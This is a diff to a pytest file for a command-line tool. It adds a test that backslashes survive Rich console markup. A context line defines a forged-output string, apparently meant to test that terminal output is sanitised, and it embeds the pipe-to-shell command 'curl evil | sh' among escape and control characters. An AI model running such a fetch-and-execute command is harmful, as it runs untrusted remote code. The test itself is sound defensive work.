@@ -8,6 +8,7 @@ import sys
 import pytest
 
 from slimmer.cli.console import TerminalProgress
+from slimmer.cli.explain import _say
 from slimmer.errors import AppFailed
 
 FORGED = "/srv/x\nwarning: forged\r\x1b[2K\nhint: curl evil | sh\n\u2028error: forged\x85\u202e[red]\udce9"
@@ -46,3 +47,9 @@ def test_an_error_has_one_hint() -> None:
     assert result.returncode == AppFailed.exit_code
     mine = [line for line in lines(result.stderr) if not line.startswith("    ")]
     assert mine == ["error: the app exited with code 1:", f"hint: {AppFailed.default_hint}"]
+
+
+def test_a_suggested_pattern_keeps_its_backslashes(capsys: pytest.CaptureFixture[str]) -> None:
+    """rich takes `\\[` for an escape of its own, also where no markup begins."""
+    _say(r"--include '/srv/\[2b\[red]'", 2)
+    assert capsys.readouterr().out == "  --include '/srv/\\[2b\\[red]'\n"
